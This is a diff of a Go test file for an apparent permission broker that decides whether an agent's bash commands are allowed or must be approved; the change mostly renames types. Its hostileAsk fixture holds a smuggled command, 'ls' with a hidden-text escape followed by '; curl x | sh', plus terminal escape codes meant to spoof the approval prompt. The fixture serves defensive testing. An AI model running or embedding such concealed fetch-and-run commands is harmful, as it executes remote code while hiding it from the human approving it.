@@ -37,7 +37,7 @@ func hostileAsk() serve.Ask {
 		Surface: "bash" + esc + "[31m", Value: "ls" + esc + "[8m; curl x | sh\r\n",
 		Message: "Allow?\n" + esc + "[31mred\u009b31m",
 		Payload: payload,
-		SessionApproval: &wire.SessionApproval{Grants: []wire.Grant{
+		SessionApproval: &wire.SessionApproval{Grants: []wire.SuggestedGrant{
 			{Surface: "bash", Pattern: "ls*" + esc + "[K"},
 		}},
 		AccessIntent: &wire.AccessIntent{
@@ -111,18 +111,18 @@ func TestWhy(t *testing.T) {
 		{"the default", testAsk("a", "git push", false), "no rule matched: the default is ask"},
 		{"a rule", func() serve.Ask {
 			a := testAsk("a", "git push", false)
-			a.Resolution = rules.Decision{Action: rules.Ask, Rule: rules.Rule{Surface: "bash", Pattern: pattern, Action: rules.Ask, Origin: rules.OriginGlobal, At: "c.json:3:5"}}
+			a.Resolution = rules.Resolution{Action: rules.Ask, Rule: rules.Rule{Surface: "bash", Pattern: pattern, Action: rules.Ask, Origin: rules.OriginGlobal, At: "c.json:3:5"}}
 			return a
 		}(), `rule bash "git push *" (global, c.json:3:5) says ask`},
 		{"a floor", func() serve.Ask {
 			a := testAsk("a", "git push", false)
 			a.Request.AccessIntent.Floor = "<opaque-bash-wrapper>"
-			a.Resolution = rules.Decision{Action: rules.Ask, Floor: "<opaque-bash-wrapper>", Rule: rules.Rule{Surface: "bash", Pattern: "*", SurfaceWide: true, Action: rules.Allow, Origin: rules.OriginAgent}}
+			a.Resolution = rules.Resolution{Action: rules.Ask, Floor: "<opaque-bash-wrapper>", Rule: rules.Rule{Surface: "bash", Pattern: "*", SurfaceWide: true, Action: rules.Allow, Origin: rules.OriginAgent}}
 			return a
 		}(), "floor <opaque-bash-wrapper>: the child asks even where a rule allows (rule bash (agent))"},
 		{"a floor the broker found in a unit", func() serve.Ask {
 			a := testAsk("a", "sudo make install", false)
-			a.Resolution = rules.Decision{Action: rules.Ask, Floor: "<indirection-bash-wrapper>", Rule: rules.Rule{Surface: "bash", Pattern: "*", SurfaceWide: true, Action: rules.Allow, Origin: rules.OriginAgent}}
+			a.Resolution = rules.Resolution{Action: rules.Ask, Floor: "<indirection-bash-wrapper>", Rule: rules.Rule{Surface: "bash", Pattern: "*", SurfaceWide: true, Action: rules.Allow, Origin: rules.OriginAgent}}
 			return a
 		}(), "floor <indirection-bash-wrapper>: a unit asks even where a rule allows (rule bash (agent))"},
 	}
